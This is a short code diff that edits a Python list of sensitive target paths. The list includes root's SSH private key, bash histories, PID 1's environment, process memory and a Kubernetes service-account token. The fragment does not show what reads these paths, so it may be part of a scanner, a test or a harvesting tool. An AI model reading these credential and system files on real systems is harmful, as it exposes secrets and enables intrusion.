@@ -16,8 +16,8 @@ PATHS = [
     f"/proc/{os.getppid()}/mem",
     "/proc/1/environ",
     "/sys/kernel/notes",
-    "/root/.ssh/id_rsa",
-    "/root/.bash_history",
+    os.path.expanduser("~root/.ssh/id_rsa"),
+    os.path.expanduser("~root/.bash_history"),
     "/var/run/secrets/kubernetes.io/serviceaccount/token",
     *glob.glob("/home/*/.bash_history"),
 ]
